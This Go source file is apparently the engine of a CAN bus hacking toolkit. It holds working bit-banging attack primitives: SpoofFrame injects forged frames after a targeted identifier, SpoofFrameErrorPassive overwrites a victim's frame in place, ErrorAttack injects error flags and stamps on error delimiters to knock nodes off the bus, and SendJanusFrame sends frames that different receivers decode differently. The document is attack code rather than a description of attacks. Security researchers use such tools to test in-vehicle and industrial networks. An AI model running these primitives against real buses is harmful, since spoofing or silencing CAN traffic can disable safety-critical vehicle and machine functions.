package engine

import (
	"log/slog"
	"math/bits"

	canhack "github.com/samsamfire/gocanhack"
	"github.com/samsamfire/gocanhack/pkg/frame"
)

// CanHack owns the two frame slots, the attack parameters and the watchdog,
// and runs the bit-banging primitives against a platform port. The
// primitives busy-loop on the port's cycle counter and are meant to run
// uninterrupted, they monopolise the CPU until they finish, fail or time
// out. An application holds exactly one instance per wire.
type CanHack struct {
	logger  *slog.Logger
	port    canhack.Port
	timings canhack.Timings

	frame1 frame.Frame
	frame2 frame.Frame

	sent    bool
	timeout uint32

	attack attackParameters
}

type attackParameters struct {
	bitstreamMask   uint64
	bitstreamMatch  uint64
	nFrameMatchBits uint32
}

func NewCanHack(port canhack.Port, timings canhack.Timings, logger *slog.Logger) *CanHack {
	if logger == nil {
		logger = slog.Default()
	}
	return &CanHack{
		logger:  logger.With("service", "[ENGINE]"),
		port:    port,
		timings: timings,
	}
}

// SetTimeout arms the watchdog. Every iteration of an engine loop consumes
// one count, on zero the running primitive releases TX and gives up.
func (c *CanHack) SetTimeout(timeout uint32) {
	c.timeout = timeout
}

// Stop makes the current primitive give up at its next watchdog check
func (c *CanHack) Stop() {
	c.timeout = 0
}

// Init clears both frame slots
func (c *CanHack) Init() {
	c.frame1.FrameSet = false
	c.frame2.FrameSet = false
}

// expired consumes one watchdog count. The compare happens before the
// decrement so a timeout of 0 trips immediately and the wrap is harmless.
func (c *CanHack) expired() bool {
	t := c.timeout
	c.timeout--
	return t == 0
}

// SetFrame encodes a frame into one of the two slots. Frame 2 is the second
// half of a Janus pair and can also be sent on its own with SendFrame.
func (c *CanHack) SetFrame(idA uint32, idB uint32, rtr bool, ide bool, dlc uint32, data []byte, second bool, fd bool, brs bool, esi bool) error {
	if idA > 0x7FF || idB > 0x3FFFF || dlc > 15 {
		return canhack.ErrIllegalArgument
	}
	if fd && rtr {
		return canhack.ErrIllegalArgument
	}
	if len(data) < frame.PayloadLen(dlc, rtr, fd) {
		return canhack.ErrIllegalArgument
	}
	fr := &c.frame1
	if second {
		fr = &c.frame2
	}
	fr.Set(idA, idB, rtr, ide, dlc, data, fd, brs, esi)
	c.logger.Debug("frame encoded", "second", second, "bits", fr.TxBits)
	return nil
}

func (c *CanHack) GetFrame(second bool) *frame.Frame {
	if second {
		return &c.frame2
	}
	return &c.frame1
}

// SetAttackMasks derives the identifier match template from frame 1 : ten
// recessive bits followed by SOF, the arbitration field and the bit after it.
func (c *CanHack) SetAttackMasks() {
	c.attack.nFrameMatchBits = uint32(c.frame1.LastArbitrationBit) + 2
	c.attack.bitstreamMask = (1 << (c.attack.nFrameMatchBits + 10)) - 1
	c.attack.bitstreamMatch = 0x3FF
	for i := uint32(0); i < c.attack.nFrameMatchBits; i++ {
		c.attack.bitstreamMatch <<= 1
		c.attack.bitstreamMatch |= uint64(c.frame1.TxBitstream[i])
	}
}

// sendBits drives the frame bitstream from txIndex onwards, sampling the bus
// at every sample point. Returns true if the caller should re-enter
// arbitration because of a lost bit or an error, false when finished or
// timed out (sent tells which).
func (c *CanHack) sendBits(bitEnd canhack.Ctr, samplePoint canhack.Ctr, txIndex uint16, fr *frame.Frame) bool {
	tx := fr.TxBitstream[txIndex]
	txIndex++
	curTx := tx
	curBitTime := c.timings.BitTime

	for {
		now := c.port.Now()

		// Bit end is scanned first, it needs to execute as close to the
		// deadline as possible
		if canhack.Reached(now, bitEnd) {
			c.port.SetTx(tx)
			bitEnd = canhack.Advance(bitEnd, curBitTime)

			// Fast data phase switch on and off
			if fr.Fd {
				if txIndex == fr.BrsBit+1 && tx != 0 {
					curBitTime = c.timings.BitTimeFd
					bitEnd = bitEnd - c.timings.SampleToBitEndFd
					samplePoint = bitEnd - c.timings.SampleToBitEndFd
				}
				if txIndex == fr.LastCrcBit+2 {
					curBitTime = c.timings.BitTime
					bitEnd = bitEnd - c.timings.SampleToBitEndFd + c.timings.SampleToBitEnd
					samplePoint = bitEnd - c.timings.SampleToBitEnd
				}
			}

			// The next bit is set up after the deadline because the critical
			// I/O operation has taken place now
			curTx = tx
			tx = fr.TxBitstream[txIndex]
			txIndex++

			if txIndex >= fr.LastEofBit+3 {
				c.port.SetTxRecessive()
				c.sent = true
				return false
			}
		}

		if canhack.Reached(now, samplePoint) {
			rx := c.port.GetRx()
			if rx != curTx {
				// Lost arbitration or a bit error, give up and go back to SOF
				c.port.SetTxRecessive()
				return true
			}
			samplePoint = canhack.Advance(samplePoint, curBitTime)
		}

		if c.expired() {
			c.port.SetTxRecessive()
			return false
		}
	}
}

// SendFrame waits for 11 recessive bits (or 10 plus SOF) and transmits a
// frame slot, retrying arbitration up to retries times. Returns true if the
// frame went out.
func (c *CanHack) SendFrame(retries uint32, second bool) bool {
	fr := &c.frame1
	if second {
		fr = &c.frame2
	}
	c.sent = false

	prevRx := uint8(0)
	var bitstream uint32
	var rx uint8

	c.port.ResetClock(0)
	samplePoint := c.timings.SamplePointOffset

	for {
		rx = c.port.GetRx()
		now := c.port.Now()

		if prevRx != 0 && rx == 0 {
			c.port.ResetClock(0)
			samplePoint = c.timings.SamplePointOffset
		} else if canhack.Reached(now, samplePoint) {
			bitEnd := canhack.Advance(samplePoint, c.timings.SampleToBitEnd)
			samplePoint = canhack.Advance(now, c.timings.BitTime)

			bitstream = (bitstream << 1) | uint32(rx)
			if bitstream&0x7FE == 0x7FE {
				// 11 bits, either 10 recessive and a dominant = SOF, or 11
				// recessive. If the last bit was recessive start at 0, else
				// at 1 to skip our own SOF
				txIndex := uint16(rx) ^ 1
				if c.sendBits(bitEnd, samplePoint, txIndex, fr) {
					if retries > 0 {
						retries--
						// Wait for EOF+IFS again before the next attempt
						bitstream = 0
						continue
					}
					return false
				}
				return c.sent
			}
		}
		prevRx = rx
		if c.expired() {
			c.port.SetTxRecessive()
			return false
		}
	}
}

// sendJanusBits drives both frame slots over the same wire pattern. Each bit
// period starts with a dominant pulse to force receivers to resync, holds
// the frame 1 value until splitEnd and the frame 2 value for the rest of the
// bit. Receivers sample either side of the split and decode different
// frames.
func (c *CanHack) sendJanusBits(bitEnd canhack.Ctr, syncTime canhack.Ctr, splitTime canhack.Ctr, syncTimeFd canhack.Ctr, splitTimeFd canhack.Ctr, txIndex uint16) bool {
	var rx, tx1, tx2 uint8
	txBits := c.frame1.TxBits
	if c.frame2.TxBits > txBits {
		txBits = c.frame2.TxBits
	}
	curBitTime := c.timings.BitTime

	syncEnd := canhack.Advance(bitEnd, syncTime)
	splitEnd := canhack.Advance(bitEnd, splitTime)

	for {
		for {
			now := c.port.Now()
			if canhack.Reached(now, bitEnd) {
				// Dominant state forces a sync (if the previous sample was
				// recessive) in all the CAN controllers
				c.port.SetTxDominant()
				tx1 = c.frame1.TxBitstream[txIndex]
				bitEnd = canhack.Advance(bitEnd, curBitTime)
				break
			}
			if c.expired() {
				c.port.SetTxRecessive()
				return false
			}
		}
		for {
			now := c.port.Now()
			if canhack.Reached(now, syncEnd) {
				c.port.SetTx(tx1)
				tx2 = c.frame2.TxBitstream[txIndex]
				txIndex++
				if txIndex >= txBits {
					c.port.SetTxRecessive()
					c.sent = true
					return false
				}
				syncEnd = canhack.Advance(syncEnd, curBitTime)
				if txIndex == c.frame1.BrsBit+1 && tx1 != 0 {
					curBitTime = c.timings.BitTimeFd
					bitEnd = bitEnd - c.timings.SampleToBitEndFd
					syncEnd = canhack.Advance(bitEnd, syncTimeFd)
				}
				if txIndex == c.frame1.LastCrcBit+2 {
					curBitTime = c.timings.BitTime
					bitEnd = bitEnd - c.timings.SampleToBitEndFd + c.timings.SampleToBitEnd
					syncEnd = canhack.Advance(bitEnd, syncTime)
				}
				break
			}
			if c.expired() {
				c.port.SetTxRecessive()
				return false
			}
		}
		for {
			now := c.port.Now()
			if canhack.Reached(now, splitEnd) {
				rx = c.port.GetRx()
				c.port.SetTx(tx2)
				splitEnd = canhack.Advance(splitEnd, curBitTime)
				if txIndex == c.frame2.BrsBit+1 && tx2 != 0 {
					splitEnd = canhack.Advance(bitEnd, splitTimeFd)
				}
				if txIndex == c.frame2.LastCrcBit+2 {
					splitEnd = canhack.Advance(bitEnd, splitTime)
				}
				if rx != tx1 {
					c.port.SetTxRecessive()
					return false
				}
				break
			}
			if c.expired() {
				c.port.SetTxRecessive()
				return false
			}
		}
	}
}

// SendJanusFrame transmits both frame slots as a single Janus wire pattern.
// syncTime is the offset from the start of a bit where the frame 1 value is
// asserted, splitTime where the frame 2 value takes over.
func (c *CanHack) SendJanusFrame(syncTime canhack.Ctr, splitTime canhack.Ctr, syncTimeFd canhack.Ctr, splitTimeFd canhack.Ctr, retries uint32) bool {
	c.sent = false

	prevRx := uint8(0)
	var bitstream uint32
	var rx uint8

	c.port.ResetClock(0)
	now := c.port.Now()
	samplePoint := canhack.Advance(now, c.timings.SamplePointOffset)

	for {
		rx = c.port.GetRx()
		now = c.port.Now()

		if prevRx != 0 && rx == 0 {
			c.port.ResetClock(0)
			samplePoint = c.timings.SamplePointOffset
		} else if canhack.Reached(now, samplePoint) {
			bitstream = (bitstream << 1) | uint32(rx)
			bitEnd := canhack.Advance(samplePoint, c.timings.SampleToBitEnd)
			samplePoint = canhack.Advance(samplePoint, c.timings.BitTime)
			if bitstream&0x7FE == 0x7FE {
				txIndex := uint16(rx) ^ 1
				if c.sendJanusBits(bitEnd, syncTime, splitTime, syncTimeFd, splitTimeFd, txIndex) {
					if retries > 0 {
						retries--
						bitstream = 0
						continue
					}
					return false
				}
				return c.sent
			}
		}
		prevRx = rx
		if c.expired() {
			c.port.SetTxRecessive()
			return false
		}
	}
}

// SpoofFrame waits until the targeted identifier appears on the bus, then
// transmits frame 1 (or the Janus pair) at the next arbitration window.
func (c *CanHack) SpoofFrame(janus bool, syncTime canhack.Ctr, splitTime canhack.Ctr, syncTimeFd canhack.Ctr, splitTimeFd canhack.Ctr, retries uint32) bool {
	prevRx := uint8(1)
	var bitstream uint64
	mask := c.attack.bitstreamMask
	match := c.attack.bitstreamMatch

	var rx uint8
	c.port.ResetClock(0)
	samplePoint := c.timings.SamplePointOffset

	for {
		rx = c.port.GetRx()
		now := c.port.Now()

		// This in effect is the bus integration phase of CAN
		if prevRx != 0 && rx == 0 {
			c.port.ResetClock(0)
			samplePoint = c.timings.SamplePointOffset
		} else if canhack.Reached(now, samplePoint) {
			samplePoint = canhack.Advance(samplePoint, c.timings.BitTime)
			bitstream = (bitstream << 1) | uint64(rx)
			// Ten recessive bits, SOF and the targeted identifier, all in
			// one test
			if bitstream&mask == match {
				if janus {
					return c.SendJanusFrame(syncTime, splitTime, syncTimeFd, splitTimeFd, retries)
				}
				return c.SendFrame(retries, false)
			}
		}
		prevRx = rx
		if c.expired() {
			c.port.SetTxRecessive()
			return false
		}
	}
}

// SpoofFrameErrorPassive waits for the targeted identifier and then
// overwrites the rest of the victim's frame in place, starting where the
// match window ends, two bits after the last arbitration bit. Works against an error passive target which cannot
// signal the overwrite. loopbackOffset compensates for the RX path delay of
// the device so the driven bits land on the contested bit boundaries.
func (c *CanHack) SpoofFrameErrorPassive(loopbackOffset canhack.Ctr) bool {
	c.sent = false

	prevRx := uint8(1)
	var bitstream uint64
	mask := c.attack.bitstreamMask
	match := c.attack.bitstreamMatch

	var rx uint8
	c.port.ResetClock(0)
	samplePoint := c.timings.SamplePointOffset

	for {
		rx = c.port.GetRx()
		now := c.port.Now()

		if prevRx != 0 && rx == 0 {
			c.port.ResetClock(0)
			samplePoint = c.timings.SamplePointOffset
		} else if canhack.Reached(now, samplePoint) {
			bitEnd := canhack.Advance(samplePoint, c.timings.SampleToBitEnd)
			samplePoint = canhack.Advance(samplePoint, c.timings.BitTime)
			bitstream = (bitstream << 1) | uint64(rx)
			if bitstream&mask == match {
				c.sendBits(bitEnd-loopbackOffset, samplePoint-loopbackOffset, uint16(c.attack.nFrameMatchBits), &c.frame1)
				return c.sent
			}
		}
		prevRx = rx
		if c.expired() {
			c.port.SetTxRecessive()
			return false
		}
	}
}

// expandBrsMask stretches an arbitration-phase EOF template to data-phase
// sampling: every template bit covers four data-phase samples, so each mask
// bit becomes four ones and each match bit four copies of itself.
func expandBrsMask(v uint32, width int) uint64 {
	var out uint64
	for i := width - 1; i >= 0; i-- {
		b := uint64((v >> uint(i)) & 1)
		out = out<<4 | b*0xF
	}
	return out
}

// ErrorAttack waits for the targeted identifier, optionally injects an
// active error flag into the frame, and then destroys the error delimiter /
// IFS region repeat times by driving seven dominant bit times whenever the
// sampled bus matches the caller's EOF template. For BRS frames the
// delimiter region runs at the data phase bit rate, the template is
// expanded four-fold to match.
func (c *CanHack) ErrorAttack(repeat uint32, injectError bool, eofMask uint32, eofMatch uint32) bool {
	prevRx := uint8(1)
	var bitstream64 uint64
	mask := c.attack.bitstreamMask
	match := c.attack.bitstreamMatch
	brs := c.frame1.Brs

	eofWidth := bits.Len32(eofMask)
	eofMask64 := uint64(eofMask)
	eofMatch64 := uint64(eofMatch)
	eofShift := 7
	if brs {
		eofMask64 = expandBrsMask(eofMask, eofWidth)
		eofMatch64 = expandBrsMask(eofMatch, eofWidth)
		// Seven nominal bit times of injected dominant cover four data
		// phase samples each
		eofShift = 28
	}

	var rx uint8
	c.port.ResetClock(0)
	var now canhack.Ctr
	samplePoint := c.timings.SamplePointOffset
	var bitEnd canhack.Ctr

	for {
		now = c.port.Now()
		rx = c.port.GetRx()
		if prevRx != 0 && rx == 0 {
			c.port.ResetClock(c.timings.FallingEdgeRecalibrate)
			samplePoint = c.timings.SamplePointOffset
		} else if canhack.Reached(now, samplePoint) {
			bitstream64 = (bitstream64 << 1) | uint64(rx)
			bitEnd = samplePoint + c.timings.SampleToBitEnd
			samplePoint = canhack.Advance(samplePoint, c.timings.BitTime)
			if bitstream64&mask == match {
				break
			}
		}
		prevRx = rx
		if c.expired() {
			return false
		}
	}

	// bitEnd is in the future, samplePoint is the sample point of the bit
	// starting there

	if injectError {
		for {
			now = c.port.Now()
			if canhack.Reached(now, bitEnd) {
				c.port.SetTxDominant()
				break
			}
		}
		bitEnd = canhack.Advance(bitEnd, c.timings.BitTime*6)
		samplePoint = canhack.Advance(samplePoint, c.timings.BitTime*6)
		for {
			now = c.port.Now()
			if canhack.Reached(now, bitEnd) {
				c.port.SetTxRecessive()
				break
			}
			if c.expired() {
				c.port.SetTxRecessive()
				return false
			}
		}
	}

	// Wait for the error delimiter / IFS region and stamp on it, once per
	// repeat
	var stream uint64
	curSamplePointOffset := c.timings.SamplePointOffset
	curBitTime := c.timings.BitTime
	if brs {
		curSamplePointOffset = c.timings.SamplePointOffsetFd
		curBitTime = c.timings.BitTimeFd
	}

	for i := uint32(0); i < repeat; i++ {
		for {
			now = c.port.Now()
			rx = c.port.GetRx()
			if prevRx != 0 && rx == 0 {
				c.port.ResetClock(c.timings.FallingEdgeRecalibrate)
				samplePoint = curSamplePointOffset
			} else if canhack.Reached(now, samplePoint) {
				stream = (stream << 1) | uint64(rx)
				bitEnd = samplePoint + curSamplePointOffset
				samplePoint = canhack.Advance(samplePoint, curBitTime)
				if stream&eofMask64 == eofMatch64 {
					// Six dominant bits would do for an active error frame,
					// seven also break the following recessive bit in case
					// every other device is error passive
					for {
						now = c.port.Now()
						if canhack.Reached(now, bitEnd) {
							c.port.SetTxDominant()
							bitEnd = canhack.Advance(bitEnd, c.timings.BitTime*7)
							samplePoint = canhack.Advance(samplePoint, c.timings.BitTime*7)
							stream = stream << uint(eofShift) // Pseudo-sample of our own dominant bits
							break
						}
					}
					for {
						now = c.port.Now()
						if canhack.Reached(now, bitEnd) {
							c.port.SetTxRecessive()
							break
						}
					}
					break
				}
			}
			prevRx = rx
			if c.expired() {
				c.port.SetTxRecessive()
				return false
			}
		}
	}
	return true
}

// SendSquareWave toggles the TX pin at the arbitration bit rate for 160 bit
// periods, useful for calibrating the timing constants with a scope.
func (c *CanHack) SendSquareWave() {
	c.port.ResetClock(0)
	bitEnd := c.timings.BitTime
	tx := uint8(0)

	remaining := 160
	for remaining > 0 {
		now := c.port.Now()
		if canhack.Reached(now, bitEnd) {
			c.port.SetTx(tx)
			bitEnd = canhack.Advance(now, c.timings.BitTime)
			tx ^= 1
			remaining--
		}
		if c.expired() {
			break
		}
	}
	c.port.SetTxRecessive()
}

// Loopback mirrors the RX pin onto the debug pin for 160 bit periods, 700
// for FD frames which run longer, starting at the next falling edge.
func (c *CanHack) Loopback(fd bool) {
	rx := uint8(0)
	var prevRx uint8

	for {
		// The counter is polled on every pass, like in every other engine loop
		c.port.Now()
		prevRx = rx
		rx = c.port.GetRx()
		if prevRx != 0 && rx == 0 {
			break
		}
		if c.expired() {
			c.port.SetTxRecessive()
			return
		}
	}

	remaining := 160
	if fd {
		remaining = 700
	}
	bitEnd := c.timings.BitTime
	c.port.ResetClock(0)
	for remaining > 0 {
		c.port.SetDebug(c.port.GetRx())
		now := c.port.Now()
		if canhack.Reached(now, bitEnd) {
			bitEnd = canhack.Advance(now, c.timings.BitTime)
			remaining--
		}
		if c.expired() {
			c.port.SetTxRecessive()
			return
		}
	}
	c.port.SetTxRecessive()
}
